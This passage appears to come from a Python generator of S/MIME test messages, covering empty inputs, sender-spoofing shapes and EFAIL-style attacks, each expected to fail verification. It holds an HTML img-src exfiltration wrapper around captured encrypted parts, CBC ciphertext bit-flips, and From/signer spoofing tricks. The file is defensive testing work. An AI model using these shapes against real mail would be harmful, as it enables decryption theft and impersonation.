    for label, data in [("empty", b""), ("one-lf", b"\n"), ("one-crlf", b"\r\n"), ("one-byte", b"x"), ("whitespace", b" \t \r\n\r\n"),
                        ("header-only", head()), ("header-and-blank-line", head() + b"\r\n"), ("body-only", b"\r\njust a body\r\n"),
                        ("mbox-from-line", b"From kunde@example.dk Sat Nov 21 12:00:00 2026\r\n" + text_message()),
                        ("only-nuls", b"\x00" * 1000)]:
        add("input-" + label, data, "plain", category, "input: %s" % label, cli=label in ("empty", "header-only"))
    add("header-only-pkcs7", head(b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"), "malformed", category,
        "an S/MIME header and no body", cli=True)
    add("header-only-multipart-signed", head(b"Content-Type: multipart/signed; boundary=x\r\n") + b"\r\n", "malformed", category,
        "multipart/signed header and no body")
    add("header-only-multipart", head(b"Content-Type: multipart/mixed; boundary=x\r\n"), "plain", category, "multipart/mixed header and no body")

    # 11. Spoofing shapes (see also HostileSpoofingTests) ---------------------------------------
    category = "spoofing"
    add("econtent-type-not-data", pkcs7(ECONTENT, smime_type=b"signed-data"), "not-verified", category,
        "SignedData whose eContentType is 1.2.3.4, not id-data", cli=True)
    add("two-signer-infos", pkcs7(TWO_SIGNERS, smime_type=b"signed-data"), "not-verified", category, "SignedData with two SignerInfos")
    add("certs-only-as-signed", pkcs7(CERTS_ONLY, smime_type=b"signed-data"), "not-verified", category,
        "a certs-only .p7c presented as signed-data: no SignerInfo")
    signed_entity = opaque_entity(SIGNED)
    add("unsigned-before-signed", multipart([TEXT_PART, signed_entity]), "not-verified", category, "unsigned text before a signed part")
    add("unsigned-after-signed", multipart([signed_entity, TEXT_PART]), "not-verified", category, "unsigned text after a signed part")
    add("html-hides-signed", multipart([signed_entity, b"Content-Type: text/html\r\n\r\n<p>Pay account 1234</p>\r\n"], subtype=b"alternative"),
        "not-verified", category, "multipart/alternative where an unsigned HTML part hides the signed one", cli=True)
    add("signer-not-from", pkcs7(SIGNED, smime_type=b"signed-data", sender=b"Direktor <ceo@gjensidige.dk>"), "not-verified", category,
        "signed by kunde@example.dk, From ceo@gjensidige.dk")
    add("display-name-address", pkcs7(SIGNED, smime_type=b"signed-data", sender=b'"ceo@gjensidige.dk" <kunde@example.dk>'), "not-verified",
        category, "display name shows another address")
    add("sender-is-signer", pkcs7(SIGNED, smime_type=b"signed-data", sender=b"ceo@gjensidige.dk\r\nSender: kunde@example.dk"), "not-verified",
        category, "signer = Sender, From = someone else")
    add("two-from-fields", pkcs7(SIGNED, smime_type=b"signed-data", sender=b"kunde@example.dk\r\nFrom: ceo@gjensidige.dk"), "not-verified",
        category, "two From fields")

    # 12. EFAIL shapes ------------------------------------------------------------------------------
    category = "efail"
    html = b'Content-Type: text/html\r\n\r\n<img src="http://efail.de/\r\n'
    add("efail-direct-exfiltration", multipart([html, opaque_entity(ENV_SIGNED, b"enveloped-data"), b'Content-Type: text/html\r\n\r\n">\r\n']),
        "not-verified", category, "attacker HTML before and after a captured encrypted part (not decrypted)", cli=True)
    add("efail-in-rfc822", multipart([b"Content-Type: message/rfc822\r\n\r\n" + head() + opaque_entity(ENV_SIGNED, b"enveloped-data")]),
        "not-verified", category, "a captured encrypted message embedded as message/rfc822")
    # The encrypted content is the last element of the EnvelopedData: count blocks from the end.
    for back in [5, 20, 40, 100, 200]:
        flipped = bytearray(ENV_SIGNED)
        flipped[len(flipped) - back] ^= 0x55
        add("efail-cbc-flip-%d-from-end" % back, pkcs7(bytes(flipped)), "not-verified", category,
            "EnvelopedData with ciphertext byte %d from the end flipped (CBC gadget); garbled inner structure may also be malformed" % back,
            accept=["not-verified", "decrypt-failed", "malformed"])


def quopri_encode(data):
    """Quoted-printable for binary data: every byte that is not plainly printable as =XX, CR LF soft breaks."""
    out, line = [], b""
    for byte in data:
        piece = bytes([byte]) if 33 <= byte <= 126 and byte != 61 else b"=%02X" % byte
        if len(line) + len(piece) > 75:
            out.append(line + b"=")
            line = b""
        line += piece
    out.append(line)
    return b"\r\n".join(out) + b"\r\n"


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    generate()
    fingerprints = {name: hashlib.sha256(open(cert(name), "rb").read()).hexdigest() for name in ["demo-ca", "demo-customer", "sikkermail"]}
    manifest = {"generator": "generate.py", "certificates": fingerprints, "messages": entries}
    with open(os.path.join(HERE, "manifest.json"), "w") as handle:
        json.dump(manifest, handle, indent=1)
        handle.write("\n")
    shutil.rmtree(WORK)
    print("%d messages" % len(entries))


if __name__ == "__main__":
    main()
